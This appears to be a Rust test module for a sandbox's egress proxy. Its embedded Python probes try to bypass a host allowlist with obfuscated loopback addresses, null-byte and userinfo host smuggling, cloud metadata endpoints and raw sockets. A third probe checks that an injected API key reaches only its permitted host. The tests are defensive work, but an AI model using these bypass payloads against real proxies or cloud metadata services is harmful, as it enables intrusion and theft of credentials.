//! Rows 34, 35: bypassing the allowlist, and leaking secrets through it.

use toolpost_sandbox::{Layer, Placeholder};

use crate::attack::expected::{OK, all};
use crate::attack::{Place, Probe, Who, host};
use crate::egress::{Server, leads_to, page, pattern};
use crate::support::python;

const NO_PROXY_HERE: &[(Who, &str)] = &[
    (Who::Level("minimal"), "the program has the network of the host there"),
    (Who::Shared, "egress needs a network namespace"),
    (Who::ButBackend("process"), "its own tests hold the proxy there"),
];

pub(crate) const PROBES: &[Probe] = &[
    host(34, "targets that are not what they look like", targets, all(OK)).not_for(NO_PROXY_HERE),
    host(34, "round the proxy", round, all(OK)).not_for(NO_PROXY_HERE),
    host(35, "a secret reaches its host alone", secret, all(OK)).not_for(NO_PROXY_HERE),
];

/// Sends text to the proxy and returns the first line of the answer.
const ASK: &str = "\
import os, socket
from urllib.parse import urlsplit
proxy = urlsplit(os.environ['HTTP_PROXY'])
def ask(text):
    try:
        s = socket.create_connection((proxy.hostname, proxy.port), 5)
        s.settimeout(5)
        s.sendall(text if isinstance(text, bytes) else text.encode('latin-1'))
        data = b''
        while b'\\n' not in data:
            block = s.recv(4096)
            if not block: break
            data += block
        return data.split(b'\\r\\n')[0].decode('latin-1')
    except OSError as error:
        return 'closed'
";

fn targets(place: &Place<'_>) -> String {
    let server = Server::http(|_| page("inside"));
    let port = server.address.port();
    let code = format!(
        "{ASK}names = ['127.0.0.1', 'localhost', '2130706433', '0x7f.1', '0177.0.0.1', '127.1', '[::1]', '[::ffff:127.0.0.1]',\n  \
         'example.org\\0.evil.example', 'evil.example\\0.example.org', 'example.org@127.0.0.1', '127.0.0.1#@example.org', 'example.org..',\n  \
         'xn--exmple-cua.org', 'EXAMPLE.ORG.evil.example', 'other.example', '169.254.169.254', 'metadata.google.internal', ' example.org', 'example.org%00',\n  \
         'example.org\\t', 'e' * 300 + '.example.org', 'example.org:22', '\\xe9xample.org']\n\
         found = []\n\
         for name in names:\n    \
         for text in (f'GET http://{{name}}:{port}/ HTTP/1.1\\r\\nHost: example.org:{port}\\r\\n\\r\\n', f'CONNECT {{name}}:{port} HTTP/1.1\\r\\nHost: example.org:{port}\\r\\n\\r\\n'):\n        \
         answer = ask(text)\n        \
         if ' 200 ' in answer + ' ': found.append((name, answer))\n\
         good = ask(f'GET http://example.org:{port}/ HTTP/1.1\\r\\nHost: example.org:{port}\\r\\n\\r\\n')\n\
         'ok' if not found and ' 200 ' in good else str((found, good))"
    );
    let outcome = python(&place.sandbox().egress(leads_to(&server)), &code);
    let seen = server.seen();
    if seen.len() > 1 {
        return format!("{} requests reached the server: {seen:?}", seen.len());
    }
    super::super::answer_of(&outcome)
}

fn round(place: &Place<'_>) -> String {
    let server = Server::http(|_| page("inside"));
    let code = format!(
        "{}found = []\n\
         def free(what, function):\n    if attempt(function) == 'allowed': found.append(what)\n\
         free('tcp', lambda: socket.socket(socket.AF_INET).connect(('127.0.0.1', {})))\n\
         free('udp', lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'x', ('127.0.0.53', 53)))\n\
         free('metadata', lambda: socket.socket(socket.AF_INET).connect(('169.254.169.254', 80)))\n\
         free('six', lambda: socket.socket(socket.AF_INET6).connect(('::1', {})))\n\
         free('name', lambda: socket.getaddrinfo('example.org', 80))\n\
         free('raw', lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, 1))\n\
         free('vsock', lambda: socket.socket(40, socket.SOCK_STREAM))\n\
         free('multipath', lambda: socket.socket(socket.AF_INET, socket.SOCK_STREAM, 262).connect(('127.0.0.1', {})))\n\
         'ok' if not found else str(found)",
        place.world.prelude(),
        server.address.port(),
        server.address.port(),
        server.address.port()
    );
    let outcome = python(&place.sandbox().egress(leads_to(&server)), &code);
    if !outcome.report.has(Layer::NetworkNamespace) {
        return "there is no network namespace".into();
    }
    super::super::answer_of(&outcome)
}

fn secret(place: &Place<'_>) -> String {
    let server = Server::http(|_| page("inside"));
    let port = server.address.port();
    let egress = leads_to(&server).allow(pattern(&format!("other.example:{port}"))).secret(
        Placeholder::new("API_KEY", "s3cr3t-value")
            .host(pattern(&format!("example.org:{port}")))
            .plain_http(true),
    );
    let code = format!(
        "{ASK}key = os.environ['API_KEY']\n\
         for name in ('example.org', 'other.example'):\n    \
         ask(f'GET http://{{name}}:{port}/{{name}} HTTP/1.1\\r\\nHost: {{name}}:{port}\\r\\nAuthorization: Bearer {{key}}\\r\\n\\r\\n')\n\
         ask(f'GET http://example.org:{port}/{{key}} HTTP/1.1\\r\\nHost: example.org:{port}\\r\\n\\r\\n')\n\
         'ok' if 's3cr3t' not in str(os.environ) + key else 'the program has it'"
    );
    let outcome = python(&place.sandbox().egress(egress), &code);
    let seen = server.seen();
    let with_it: Vec<_> = seen.iter().filter(|text| text.contains("s3cr3t")).collect();
    if with_it.len() == 1
        && with_it[0].contains("Bearer s3cr3t-value")
        && with_it[0].starts_with("GET /example.org")
    {
        return super::super::answer_of(&outcome);
    }
    format!("{} of {} requests have it: {seen:?}", with_it.len(), seen.len())
}
